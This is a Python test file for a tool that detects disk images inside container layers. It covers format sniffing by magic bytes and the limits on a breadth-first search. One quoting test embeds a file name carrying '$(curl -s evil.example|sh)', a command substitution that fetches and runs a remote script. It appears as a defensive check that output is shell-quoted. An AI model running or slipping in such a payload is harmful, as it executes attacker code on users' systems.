"""Disks outside /disk/: which headers make a file disk-like, and the search's order and bounds (pure)."""

from __future__ import annotations

import zlib
from pathlib import Path

import pytest

from cdisk.core.disk import anywhere
from cdisk.core.disk.anywhere import MIN_SIZE, Sniffed, in_bytes, search, sniff
from cdisk.core.tree.merged import DIR, FILE, SYMLINK, LayerMember, MergedTree
from tests.images import gpt_disk, sh

MiB = 1 << 20


def _sniffed(head: bytes, size: int = 2 * MiB) -> Sniffed | None:
    return sniff(in_bytes(head), size)


def _at(offset: int, data: bytes, size: int = 0x9000) -> bytes:
    block = bytearray(max(size, offset + len(data)))
    block[offset:offset + len(data)] = data
    return bytes(block)


@pytest.mark.needs("qemu-img")
@pytest.mark.parametrize("fmt", ["qcow2", "vmdk", "vdi", "vhdx", "vpc", "qed"])
def test_image_formats_are_told_by_their_magic(tmp_path: Path, fmt: str) -> None:
    disk = tmp_path / f"d.{fmt}"
    sh("qemu-img", "create", "-q", "-f", fmt, disk, "8M")
    head = disk.read_bytes()[:anywhere.SNIFF_BYTES]
    # Whatever its length: an image format's file need not be whole sectors.
    assert _sniffed(head, MIN_SIZE + 1) == Sniffed(fmt)


def test_a_luks_volume_is_disk_like() -> None:
    # (qemu-img create -f luks spends a second or more on its key derivation: the header's magic is enough.)
    assert _sniffed(b"LUKS\xba\xbe\x00\x01" + bytes(4088)) == Sniffed("luks")


def test_raw_disks_are_told_by_what_they_hold(tmp_path: Path) -> None:
    gpt = gpt_disk(tmp_path / "gpt.raw").read_bytes()
    assert _sniffed(gpt) == Sniffed("raw", "GPT")
    mbr = bytearray(_at(510, b"\x55\xaa"))
    mbr[446:462] = bytes([0x80, 0, 2, 0, 0x83, 0, 0, 0]) + (2048).to_bytes(4, "little") + (4096).to_bytes(4, "little")
    assert _sniffed(bytes(mbr)) == Sniffed("raw", "MBR")
    assert _sniffed(_at(1080, b"\x53\xef")) == Sniffed("raw", "ext2/3/4")
    assert _sniffed(b"XFSB" + bytes(4092)) == Sniffed("raw", "XFS")
    assert _sniffed(_at(0x8001, b"CD001")) == Sniffed("raw", "ISO 9660")
    assert Sniffed("raw", "GPT").describe(2 * MiB) == "raw GPT, 2.0 MiB"
    assert Sniffed("qcow2").describe(6 << 30) == "qcow2, 6.0 GiB"


def test_what_is_no_disk_is_not_disk_like(tmp_path: Path) -> None:
    gpt = gpt_disk(tmp_path / "gpt.raw").read_bytes()
    assert _sniffed(gpt, MIN_SIZE - 512) is None  # too small to be looked at
    assert _sniffed(gpt, 2 * MiB + 1) is None  # a raw disk is whole sectors
    assert _sniffed(bytes(0x9000)) is None  # zeros
    assert _sniffed(b"\x7fELF\x02\x01\x01" + bytes(0x9000)) is None
    # A file system's boot sector ends in 0x55AA too, with boot code where a partition table would be.
    assert _sniffed(b"\xeb\x3c\x90MSWIN4.1" + bytes(435) + b"\xfa\x31\xc0" * 21 + b"\x55\xaa") is None
    # The signature with an empty table: nothing partitioned.
    assert _sniffed(_at(510, b"\x55\xaa")) is None


def f(path: str, size: int = 2 * MiB, offset: int | None = None) -> LayerMember:
    # Where a layer tar would hold its data: one place per path unless told (the same place is one file).
    where = 512 * (2 + zlib.crc32(path.encode())) if offset is None else offset
    return LayerMember(path, FILE, 0, offset=where, size=size)


def test_the_search_walks_breadth_first_and_follows_no_link() -> None:
    tree = MergedTree([[f("z.qcow2"), f("a/b/deep.qcow2"), f("a/top.raw"), f("small.qcow2", size=4096),
                        LayerMember("link.qcow2", SYMLINK, linkname="z.qcow2"),
                        LayerMember("loop", SYMLINK, linkname="."), f("a/not-a-disk")]])
    asked: list[str] = []

    def told(path: str, member: LayerMember) -> Sniffed | None:
        asked.append(path)
        return None if path.endswith("not-a-disk") else Sniffed("qcow2")

    found = search(tree, told)
    # The root's files, then a's, then a/b's; names in order; the small file's header is never read.
    assert asked == ["/z.qcow2", "/a/not-a-disk", "/a/top.raw", "/a/b/deep.qcow2"]
    assert [d.path for d in found.found] == ["/z.qcow2", "/a/top.raw", "/a/b/deep.qcow2"]
    assert found.stopped == ""
    assert found.found[0].describe() == "/z.qcow2 (qcow2, 2.0 MiB)"


def test_the_search_is_bounded_in_headers_and_entries(monkeypatch: pytest.MonkeyPatch) -> None:
    tree = MergedTree([[f(f"d/{n:03}.bin") for n in range(20)] + [LayerMember(f"e/{n:03}", DIR) for n in range(20)]])
    monkeypatch.setattr(anywhere, "MAX_HEADERS", 5)
    asked: list[str] = []
    found = search(tree, lambda path, member: asked.append(path) or Sniffed("qcow2"))  # type: ignore[func-returns-value]
    assert len(asked) == 5 and len(found.found) == 5
    assert found.stopped == "the search stops after 5 files of 1.0 MiB or more"
    monkeypatch.setattr(anywhere, "MAX_HEADERS", 100)
    monkeypatch.setattr(anywhere, "MAX_VISITED", 30)
    before = tree.read
    found = search(tree, lambda path, member: Sniffed("qcow2"))
    # The root and its two directories (3 read), d and its 20 files (21): e would read 21 more, past the bound,
    # so it is not listed at all — not one of its entries looked at.
    assert len(found.found) == 20 and found.stopped == "the search stops after 30 entries"
    assert tree.read - before == 24


def test_a_huge_directory_is_not_read_past_the_bound(monkeypatch: pytest.MonkeyPatch) -> None:
    tree = MergedTree([[f("image/podvm.qcow2"), *(f(f"var/{n:05}") for n in range(1000))]])
    monkeypatch.setattr(anywhere, "MAX_VISITED", 100)
    asked: list[str] = []
    found = search(tree, lambda path, member: asked.append(path) or Sniffed("qcow2"))  # type: ignore[func-returns-value]
    # The disk met first is found; of var/, not one entry is looked at (no header read, none stat'ed).
    assert [d.path for d in found.found] == ["/image/podvm.qcow2"] and asked == ["/image/podvm.qcow2"]
    assert found.stopped == "the search stops after 100 entries"


def _chain(depth: int, name: str = "disk.qcow2") -> str:
    return "/".join(["a"] * depth + [name])


def test_the_search_looks_no_deeper_than_its_bound() -> None:
    # A disk with 15 directories above it is found; one with 16 is not, and the answer says the search stopped.
    deepest, deeper = _chain(anywhere.MAX_DEPTH - 1), _chain(anywhere.MAX_DEPTH, "deeper.qcow2")
    found = search(MergedTree([[f(deepest), f(deeper), *(LayerMember(_chain(n, "d"), DIR) for n in range(40))]]),
                   lambda path, member: Sniffed("qcow2"))
    assert [d.path for d in found.found] == [f"/{deepest}"]
    assert found.stopped == "the search stops after 16 levels"

def test_past_the_depth_the_walk_goes_on_with_what_is_shallower(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(anywhere, "MAX_DEPTH", 2)
    tree = MergedTree([[f("a/b/deep.qcow2"), f("a/x.qcow2"), f("c/y.qcow2"), f("d/z.qcow2")]])
    found = search(tree, lambda path, member: Sniffed("qcow2"))
    assert [d.path for d in found.found] == ["/a/x.qcow2", "/c/y.qcow2", "/d/z.qcow2"]
    assert found.stopped == "the search stops after 2 levels"
    # Another bound reached is named with it.
    monkeypatch.setattr(anywhere, "MAX_DIRECTORIES", 3)
    found = search(tree, lambda path, member: Sniffed("qcow2"))
    assert [d.path for d in found.found] == ["/a/x.qcow2", "/c/y.qcow2"]
    assert found.stopped == "the search stops after 2 levels and 3 directories"


def test_the_search_lists_a_bounded_number_of_directories(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(anywhere, "MAX_DIRECTORIES", 4)
    tree = MergedTree([[f("a/x.qcow2"), f("b/y.qcow2"), f("c/z.qcow2"), f("d/w.qcow2")]])
    # The root, a, b, c: four directories listed; d is not.
    found = search(tree, lambda path, member: Sniffed("qcow2"))
    assert [d.path for d in found.found] == ["/a/x.qcow2", "/b/y.qcow2", "/c/z.qcow2"]
    assert found.stopped == "the search stops after 4 directories"


def test_hard_links_of_one_file_cost_one_header(monkeypatch: pytest.MonkeyPatch) -> None:
    # 300 names of one file (a tar's hard links carry their target's data offset): one header read; the bound on
    # headers counts files, not names, so the file after them is still looked at.
    monkeypatch.setattr(anywhere, "MAX_HEADERS", 2)
    names = [f(f"links/{n:03}.raw", offset=4096) for n in range(300)]
    asked: list[str] = []
    found = search(MergedTree([[*names, f("zz/other.qcow2")]]),
                   lambda path, member: asked.append(path) or None)  # type: ignore[func-returns-value]
    assert asked == ["/links/000.raw", "/zz/other.qcow2"] and found.stopped == ""
    # Names found are bounded all the same (here by the headers bound, 2).
    found = search(MergedTree([[*names, f("zz/other.qcow2")]]), lambda path, member: Sniffed("raw", "GPT"))
    assert len(found.found) == 2 and found.stopped == "the search stops after 2 disk-like files"


def test_a_find_is_described_as_one_shell_word_and_qed_and_luks_as_not_read() -> None:
    def described(path: str, sniffed: Sniffed) -> str:
        return anywhere.DiskLike(path, f(path.lstrip("/")), sniffed).describe()

    assert described("/img/$(curl -s evil.example|sh)/x.qcow2", Sniffed("qcow2")) == \
        "'/img/$(curl -s evil.example|sh)/x.qcow2' (qcow2, 2.0 MiB)"
    assert described("/a.qcow2 (qcow2, 1 MiB), /y", Sniffed("qcow2")) == \
        "'/a.qcow2 (qcow2, 1 MiB), /y' (qcow2, 2.0 MiB)"
    assert described("/a\nb.img", Sniffed("raw", "GPT")) == "$'/a\\x0ab.img' (raw GPT, 2.0 MiB)"
    assert described("/vm.qed", Sniffed("qed")) == "/vm.qed (qed, 2.0 MiB: cdisk does not read qed)"
    assert described("/vm.luks", Sniffed("luks")) == "/vm.luks (luks, 2.0 MiB: cdisk does not read an encrypted disk)"
    assert Sniffed("qcow2").refused == "" and Sniffed("qed").refused
